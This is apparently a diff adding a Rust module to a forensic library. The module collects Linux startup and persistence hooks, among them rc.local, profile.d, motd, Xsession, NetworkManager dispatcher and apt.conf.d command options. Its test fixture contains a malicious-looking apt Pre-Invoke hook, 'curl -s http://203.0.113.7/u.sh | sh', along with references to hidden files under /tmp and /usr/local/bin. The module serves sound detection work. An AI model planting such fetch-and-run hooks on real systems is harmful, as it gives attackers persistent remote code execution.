@@ -0,0 +1,216 @@
+pub use crate::prelude::{list_files, FileMetadata};
+pub use crate::ChRootFileSystem;
+pub use forensic_rs::{
+    core::fs::StdVirtualFS, prelude::ForensicResult, traits::vfs::VirtualFileSystem,
+};
+use lazy_static::lazy_static;
+use regex::Regex;
+pub use std::{
+    fs,
+    io::BufRead,
+    path::{Path, PathBuf},
+};
+
+//options of apt.conf whose values are commands run by apt or dpkg
+const APT_COMMAND_OPTIONS: [&str; 6] = [
+    "APT::Update::Pre-Invoke",
+    "APT::Update::Post-Invoke",
+    "APT::Update::Post-Invoke-Success",
+    "DPkg::Pre-Invoke",
+    "DPkg::Post-Invoke",
+    "DPkg::Pre-Install-Pkgs",
+];
+
+lazy_static! {
+    //quoted values, scope delimiters and option names of apt.conf
+    static ref APT_TOKEN_REGEX: Regex = Regex::new(r#""((?:[^"\\]|\\.)*)"|([{};])|([^\s{};"]+)"#).unwrap();
+}
+
+#[derive(Debug, Default, Clone, PartialEq)]
+pub enum HookTrigger {
+    //rc.local, run at the end of the boot
+    #[default]
+    Boot,
+    //profile.d scripts sourced by login shells
+    LoginShell,
+    //update-motd.d scripts run by pam_motd on every login
+    Motd,
+    //environment file read by pam_env on every login
+    Environment,
+    //Xsession.d scripts sourced when a graphical session starts
+    X11Session,
+    //NetworkManager dispatcher scripts run on network events
+    NetworkEvent,
+    //commands run by apt before or after updating or installing packages, the name of the hook is kept
+    PackageManager(String),
+}
+
+#[derive(Debug, Default, Clone, PartialEq)]
+pub struct StartupHook {
+    pub path: PathBuf,
+    pub trigger: HookTrigger,
+    //script contents, or the command for apt hooks
+    pub contents: String,
+    pub line_number: Option<usize>,
+    pub metadata: Option<FileMetadata>,
+}
+
+impl StartupHook {
+    pub fn load_startup_hooks(vfs: &mut impl VirtualFileSystem) -> ForensicResult<Vec<Self>> {
+        let mut hooks: Vec<Self> = Vec::new();
+        for path in ["/etc/rc.local", "/etc/rc.d/rc.local"] {
+            hooks.extend(Self::from_file(vfs, Path::new(path), HookTrigger::Boot));
+        }
+        hooks.extend(Self::from_file(vfs, Path::new("/etc/environment"), HookTrigger::Environment));
+        let hook_dirs = [
+            ("/etc/profile.d", HookTrigger::LoginShell),
+            ("/etc/update-motd.d", HookTrigger::Motd),
+            ("/etc/X11/Xsession.d", HookTrigger::X11Session),
+            ("/etc/NetworkManager/dispatcher.d", HookTrigger::NetworkEvent),
+        ];
+        for (directory, trigger) in hook_dirs {
+            for path in list_files(vfs, Path::new(directory), 1) {
+                hooks.extend(Self::from_file(vfs, &path, trigger.clone()));
+            }
+        }
+        for path in list_files(vfs, Path::new("/etc/apt/apt.conf.d"), 0) {
+            hooks.extend(Self::from_apt_config(vfs, &path));
+        }
+        Ok(hooks)
+    }
+
+    fn from_file(vfs: &mut impl VirtualFileSystem, path: &Path, trigger: HookTrigger) -> Option<Self> {
+        let contents = vfs.read_to_string(path).ok()?;
+        Some(Self {
+            path: path.to_path_buf(),
+            trigger,
+            contents,
+            line_number: None,
+            metadata: FileMetadata::from_vfs(vfs, path),
+        })
+    }
+
+    //one hook for every command of the file, APT::Update::Pre-Invoke can also be written as nested scopes
+    //APT { Update { Pre-Invoke { "command"; }; }; }; so the full name of every value is rebuilt from its scopes
+    fn from_apt_config(vfs: &mut impl VirtualFileSystem, path: &Path) -> Vec<Self> {
+        let mut hooks = Vec::new();
+        let contents = match vfs.read_to_string(path) {
+            Ok(v) => strip_apt_comments(&v),
+            Err(_e) => return hooks,
+        };
+        let metadata = FileMetadata::from_vfs(vfs, path);
+        let mut scopes: Vec<String> = Vec::new();
+        let mut option_name: Option<String> = None;
+        for token in APT_TOKEN_REGEX.captures_iter(&contents) {
+            if let Some(name) = token.get(3) {
+                option_name = Some(name.as_str().trim_end_matches("::").to_string());
+            } else if let Some(delimiter) = token.get(2) {
+                match delimiter.as_str() {
+                    "{" => scopes.push(option_name.take().unwrap_or_default()),
+                    "}" => {
+                        scopes.pop();
+                    }
+                    _ => option_name = None,
+                }
+            } else if let Some(value) = token.get(1) {
+                let full_name = scopes
+                    .iter()
+                    .chain(option_name.iter())
+                    .filter(|v| !v.is_empty())
+                    .cloned()
+                    .collect::<Vec<String>>()
+                    .join("::");
+                //option names are case insensitive
+                if !APT_COMMAND_OPTIONS.iter().any(|v| v.eq_ignore_ascii_case(&full_name)) {
+                    continue;
+                }
+                hooks.push(Self {
+                    path: path.to_path_buf(),
+                    trigger: HookTrigger::PackageManager(full_name),
+                    contents: value.as_str().replace("\\\"", "\""),
+                    line_number: Some(contents[..value.start()].matches('\n').count() + 1),
+                    metadata: metadata.clone(),
+                });
+            }
+        }
+        hooks
+    }
+}
+
+//removes // and # comments keeping the line breaks, quoted text is left untouched
+fn strip_apt_comments(contents: &str) -> String {
+    contents
+        .lines()
+        .map(|line| {
+            let mut in_quotes = false;
+            let mut previous = ' ';
+            for (position, character) in line.char_indices() {
+                match character {
+                    '"' if previous != '\\' => in_quotes = !in_quotes,
+                    '#' if !in_quotes => return &line[..position],
+                    '/' if !in_quotes && previous == '/' => return &line[..position - 1],
+                    _ => {}
+                }
+                previous = character;
+            }
+            line
+        })
+        .collect::<Vec<&str>>()
+        .join("\n")
+}
+
+#[cfg(test)]
+mod startup_hooks_tests {
+    use super::*;
+
+    #[test]
+    fn should_load_startup_hooks() {
+        let base_path = std::env::var("CARGO_MANIFEST_DIR").unwrap();
+        let virtual_file_system = &Path::new(&base_path).join("artifacts");
+
+        let mut _std_vfs = StdVirtualFS::new();
+        let mut vfs = ChRootFileSystem::new(virtual_file_system, Box::new(_std_vfs));
+        let hooks = StartupHook::load_startup_hooks(&mut vfs).expect("Should load startup hooks");
+
+        let paths: Vec<&Path> = hooks.iter().map(|v| v.path.as_path()).collect();
+        assert_eq!(
+            vec![
+                Path::new("/etc/rc.local"),
+                Path::new("/etc/environment"),
+                Path::new("/etc/profile.d/bash_completion.sh"),
+                Path::new("/etc/update-motd.d/00-header"),
+                Path::new("/etc/X11/Xsession.d/90x11-common_ssh-agent"),
+                Path::new("/etc/NetworkManager/dispatcher.d/pre-up.d/10-sync"),
+                Path::new("/etc/apt/apt.conf.d/80mirror"),
+                Path::new("/etc/apt/apt.conf.d/80mirror"),
+                Path::new("/etc/apt/apt.conf.d/99update-notifier"),
+                Path::new("/etc/apt/apt.conf.d/99update-notifier"),
+            ],
+            paths
+        );
+        assert_eq!(HookTrigger::NetworkEvent, hooks[5].trigger);
+        assert!(hooks[0].contents.contains("/tmp/.sysd"));
+        assert!(hooks[0].metadata.is_some());
+
+        let apt_hook_test = StartupHook {
+            path: PathBuf::from("/etc/apt/apt.conf.d/99update-notifier"),
+            trigger: HookTrigger::PackageManager("APT::Update::Pre-Invoke".to_string()),
+            contents: "curl -s http://203.0.113.7/u.sh | sh".to_string(),
+            line_number: Some(3),
+            metadata: hooks[9].metadata.clone(),
+        };
+        assert_eq!(HookTrigger::PackageManager("DPkg::Post-Invoke".to_string()), hooks[8].trigger);
+        assert_eq!(Some(1), hooks[8].line_number);
+        assert_eq!(apt_hook_test, hooks[9]);
+
+        //nested scopes and single values, the proxy option runs nothing
+        assert_eq!(
+            HookTrigger::PackageManager("APT::Update::Post-Invoke-Success".to_string()),
+            hooks[6].trigger
+        );
+        assert_eq!("/usr/local/bin/.apt-sync >/dev/null 2>&1", hooks[6].contents);
+        assert_eq!(Some(6), hooks[6].line_number);
+        assert_eq!(HookTrigger::PackageManager("DPkg::Pre-Install-Pkgs".to_string()), hooks[7].trigger);
+        assert_eq!("/usr/sbin/dpkg-preconfigure --apt || true", hooks[7].contents);
+    }
+}